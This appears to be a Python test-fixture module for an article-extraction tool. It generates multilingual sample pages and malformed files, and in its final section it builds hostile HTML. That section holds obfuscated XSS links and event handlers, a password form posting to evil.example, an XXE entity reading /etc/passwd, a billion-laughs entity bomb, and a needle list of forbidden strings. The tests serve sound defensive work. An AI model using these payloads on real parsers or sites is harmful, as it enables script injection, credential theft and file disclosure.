"""Inputs for the hardening tests: real articles (written for these tests) and hostile or broken
variants of them. ``python tests/badcorpus.py`` rewrites the small files in tests/data/bad/;
the large inputs (1 MB, 50 MB, deep nesting) are built at test time and never committed."""

from __future__ import annotations

import io
import zipfile
from html import escape
from pathlib import Path

BAD = Path(__file__).parent / "data" / "bad"

TITLE = "The Harbour Gates Open Again"
PARAS = (
    "The harbour master opened the sluice gates at dawn, and for the first time in a decade the "
    "tide came in without flooding the fish market. Traders who had spent years stacking crates "
    "on breeze blocks stood and watched the water stop a hand's width below the quay.",
    "Engineers had argued for a long time about whether the old gates could be saved. In the end "
    "they replaced only the hinges and the seals, keeping the oak leaves that local carpenters "
    "had fitted in the nineteenth century, and the whole job cost less than a new footbridge.",
    "Nobody expected the repair to change how the town uses its waterfront. Yet within a month "
    "the market had doubled its opening hours, a bakery had moved into the empty customs shed, "
    "and children were fishing for crabs from steps that had been fenced off since the storms.",
    "The council now plans to publish the tide tables on a board beside the gates, written large "
    "enough to read from the far side of the square. Older residents say it is the first time in "
    "years that the harbour has felt like it belongs to them rather than to the insurers.",
)
#: Words each article must keep (proves the output holds the article, not an empty shell).
MARKER = "sluice gates"

ARABIC = ("افتتاح مكتبة الحي القديم", (
    "افتتح مجلس المدينة يوم السبت مكتبة صغيرة في الحي القديم، بعد أن ظل المبنى مغلقاً لأكثر "
    "من عشر سنوات. جاء الأطفال مع آبائهم منذ الصباح الباكر، وجلسوا على الأرض يقرأون القصص "
    "المصورة بصوت عالٍ.",
    "قالت أمينة المكتبة إن الفكرة بدأت برسالة كتبها تلميذ في الصف الخامس، يسأل فيها لماذا لا "
    "يوجد مكان هادئ للقراءة قرب بيته. جمع الجيران الكتب من بيوتهم، وتبرع نجار متقاعد بصنع "
    "الرفوف من خشب قديم.",
    "تفتح المكتبة أبوابها الآن كل يوم بعد الظهر، ويتطوع فيها طلاب الجامعة لمساعدة الصغار في "
    "واجباتهم المدرسية. ويأمل السكان أن تصبح قريباً مكاناً يلتقي فيه الكبار أيضاً لتبادل "
    "الحكايات والأخبار.",
), "ar", "أمينة المكتبة")
HEBREW = ("הגשר הישן נפתח מחדש", (
    "בבוקר יום שלישי נפתח מחדש הגשר הישן מעל הנחל, אחרי שנתיים של עבודות שיפוץ. תושבי השכונה "
    "הגיעו מוקדם כדי ללכת עליו ראשונים, וחלקם הביאו איתם כלבים ועגלות של תינוקות.",
    "המהנדסת שניהלה את הפרויקט סיפרה שהצוות שמר על אבני הבזלת המקוריות, והחליף רק את הקורות "
    "שנרקבו. לדבריה, העבודה הייתה איטית מהמתוכנן, אבל התוצאה תחזיק מעמד עוד מאה שנה לפחות.",
    "בעירייה מקווים שהגשר יחבר מחדש בין שני חלקי העיר, שהיו מנותקים זה מזה מאז השיטפון הגדול. "
    "בעלי החנויות בצד המזרחי כבר מדווחים על עלייה במספר הלקוחות.",
), "he", "אבני הבזלת")
CHINESE = ("旧火车站变成了图书馆", (
    "今年春天，小镇上的旧火车站被改造成了一座社区图书馆。改造工程由当地居民自己发起，他们利用"
    "周末的时间清理站台，修补屋顶，还把废弃的车厢漆成了明亮的颜色。",
    "图书馆的管理员说，最受欢迎的是那节改成儿童阅览室的车厢。孩子们坐在原来的座椅上看书，透过"
    "车窗还能看到远处的田野和山丘。每到下午放学，车厢里总是坐满了人。",
    "镇政府计划明年在站台上增加一个小型咖啡馆，并邀请附近的学校在这里举办读书会。居民们希望这"
    "座老车站能继续成为大家见面和交流的地方。",
), "zh", "儿童阅览室")
JAPANESE = ("商店街に本屋が戻ってきた", (
    "駅前の商店街に、十年ぶりに小さな本屋が開店した。店主は元小学校の先生で、子どもたちが放課後に"
    "立ち寄れる場所を作りたかったと話している。",
    "店の奥には畳の読書スペースがあり、近所のお年寄りが絵本の読み聞かせをしている。週末には親子連れで"
    "にぎわい、商店街の他の店にも人が流れるようになった。",
    "商店会は来年、空き店舗を使って古本市を開く予定だ。本屋の店主は、町の人が本を通して出会える場所"
    "を少しずつ増やしていきたいと語った。",
), "ja", "読み聞かせ")
EMOJI = ("Our Garden Year 🌱🌻", tuple(
    p.replace("dawn", "dawn 🌅").replace("bakery", "bakery 🥐").replace("crabs", "crabs 🦀")
    for p in PARAS), "en", "🦀")


def article_html(title: str = TITLE, paras: tuple[str, ...] = PARAS, lang: str = "en",
                 head: str = "", before: str = "", inside: str = "", charset: str = "utf-8",
                 escape_title: bool = True) -> str:
    """A plain, well-formed article page; the keyword parts inject extra markup."""
    shown = escape(title) if escape_title else title
    body = "".join(f"<p>{p}</p>\n" for p in paras)
    meta = f'<meta charset="{charset}">' if charset else ""
    direction = ' dir="rtl"' if lang in ("ar", "he") else ""
    return (f'<!DOCTYPE html>\n<html lang="{lang}"{direction}><head>{meta}<title>{shown}</title>'
            f"{head}</head>\n<body>{before}<article><h1>{shown}</h1>\n{inside}{body}</article>"
            "</body></html>\n")


def article_text(title: str = TITLE, paras: tuple[str, ...] = PARAS) -> str:
    return title + "\n\n" + "\n\n".join(paras) + "\n"


def _zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("article.html", (2024, 1, 1, 0, 0, 0)), article_html())
    return buf.getvalue()


def _png() -> bytes:
    return (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06"
            b"\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe"
            b"\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")


def _lang(case: tuple[str, tuple[str, ...], str, str]) -> bytes:
    title, paras, lang, _ = case
    return article_html(title, paras, lang).encode("utf-8")


def small_files() -> dict[str, bytes]:
    """Name → bytes of every committed bad-input file."""
    text = article_text()
    return {
        "empty.html": b"",
        "whitespace.txt": b" \n\t\r\n   \n\xc2\xa0\n".replace(b"\xc2\xa0", b" "),
        "png-named.html": _png(),
        "pdf-named.txt": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
        "zip-named.html": _zip(),
        "invalid-utf8.txt": text.replace("hand's", "hand\x00s").encode("utf-8")
        .replace(b"\x00", b"\xff\xfe\xc3"),
        "utf16-bom.html": article_html(charset="").encode("utf-16"),
        "cp1252-no-charset.html": article_html(
            title="Café Owners Say “Merci”", charset="").encode("cp1252"),
        "control-chars.txt": text.replace(" the ", " the\x00 ", 5).replace(
            "tide", "ti\x01de\x1b[31m").encode("utf-8"),
        "no-text.html": (b"<!DOCTYPE html><html><head><title>Gallery</title></head><body>"
                         b"<div><img src='a.jpg'><img src='b.jpg'></div><script>var x=1;</script>"
                         b"</body></html>"),
        "nav-only.html": ("<!DOCTYPE html><html><head><title>Home</title></head><body><nav><ul>"
                          + "".join(f"<li><a href='/s{i}'>Section number {i} news and views</a>"
                                    "</li>" for i in range(40))
                          + "</ul></nav></body></html>").encode(),
        "arabic.html": _lang(ARABIC),
        "hebrew.html": _lang(HEBREW),
        "chinese.html": _lang(CHINESE),
        "japanese.html": _lang(JAPANESE),
        "emoji.html": _lang(EMOJI),
    }


def write_all() -> None:
    BAD.mkdir(parents=True, exist_ok=True)
    for name, data in small_files().items():
        (BAD / name).write_bytes(data)


if __name__ == "__main__":
    write_all()


# --- hostile pages ---------------------------------------------------------------------------

#: Text that must never appear in any output written from a hostile page (case-insensitive).
HOSTILE_NEEDLES = (
    "alert(", "javascript", "vbscript", "data:text", "expression(", "evil.example", "<script",
    "onerror", "onclick", "onload", "onmouseover", "<iframe", "<object", "<embed", "<form",
    "<input", "<base", "http-equiv", "<svg", "msgbox", "style.css",
)
HOSTILE_HEAD = (
    "<script>alert('head')</script>"
    '<base href="http://evil.example/base/">'
    '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">'
    '<link rel="stylesheet" href="http://evil.example/style.css">'
    "<style>body{background:url(http://evil.example/bg.png)}"
    "p{width:expression(alert('css'))}</style>"
)
HOSTILE_BODY = (
    '<iframe src="http://evil.example/frame"></iframe>'
    '<object data="http://evil.example/movie.swf"></object>'
    '<embed src="http://evil.example/plugin.swf">'
    '<form action="http://evil.example/steal"><input name="pw" value="x"></form>'
)
#: Links and markup inside the article itself (trafilatura keeps inline formatting and links).
HOSTILE_LINKS = (
    ('<a href="javascript:alert(1)">the first</a>', "the first"),
    ('<a href=" JaVaScRiPt:alert(2)">the second</a>', "the second"),
    ('<a href="jav&#x09;ascript:alert(3)">the third</a>', "the third"),
    ('<a href="&#106;&#97;vascript:alert(4)">the fourth</a>', "the fourth"),
    ('<a href="java\nscript:alert(5)">the fifth</a>', "the fifth"),
    ('<a href="vbscript:msgbox(6)">the sixth</a>', "the sixth"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">the seventh</a>',
     "the seventh"),
    ('<a href="https://harbour.example/gates" onmouseover="alert(8)">the eighth</a>', "the eighth"),
)


def hostile_html() -> str:
    """A real article wrapped in every trick a page can play, inline and around it."""
    links = " ".join(a for a, _ in HOSTILE_LINKS)
    paras = (
        f'<p onclick="alert(\'p\')" style="background:url(http://evil.example/p.png)">'
        f"{PARAS[0]}</p>",
        f"<p>{PARAS[1]} Read {links} reports.</p>",
        "<svg onload=\"alert('svg')\"><script>alert('svg-script')</script>"
        "<text>vector</text></svg>",
        f'<p style="width:expression(alert(\'ie\'))">{PARAS[2]}'
        "<script>alert('inline')</script></p>",
        '<figure><img src="https://images.example/pixel.png" onerror="alert(\'img\')" '
        'alt="The harbour gates"><figcaption>The harbour gates at dawn.</figcaption></figure>',
        f"<p>{PARAS[3]}</p>",
    )
    body = "\n".join(paras)
    return (f"<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>{TITLE}"
            f"</title>{HOSTILE_HEAD}</head>\n<body onload=\"alert('body')\">{HOSTILE_BODY}"
            f"<article><h1>{TITLE}</h1>\n{body}</article>{HOSTILE_BODY}</body></html>\n")


def _xhtml(doctype: str, extra: str) -> str:
    paras = "".join(f"<p>{p}</p>" for p in PARAS)
    return ('<?xml version="1.0" encoding="utf-8"?>\n'
            f"<!DOCTYPE html [\n{doctype}\n]>\n"
            '<html xmlns="http://www.w3.org/1999/xhtml"><head>'
            f"<title>{TITLE}</title></head><body><article><h1>{TITLE}</h1>{paras}"
            f"<p>{extra}</p></article></body></html>\n")


def xxe_xhtml() -> str:
    """External entities: reading must never open /etc/passwd (or fetch anything)."""
    return _xhtml('<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
                  '<!ENTITY remote SYSTEM "http://evil.example/entity">',
                  "Harbour notes: &xxe; and &remote; end.")


def billion_laughs_xhtml(levels: int = 10) -> str:
    """Nested entity definitions that would expand to 10^levels copies of a word."""
    defs = ['<!ENTITY lol0 "lol">']
    defs += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)]
    return _xhtml("\n".join(defs), f"Harbour laughs: &lol{levels - 1}; end.")
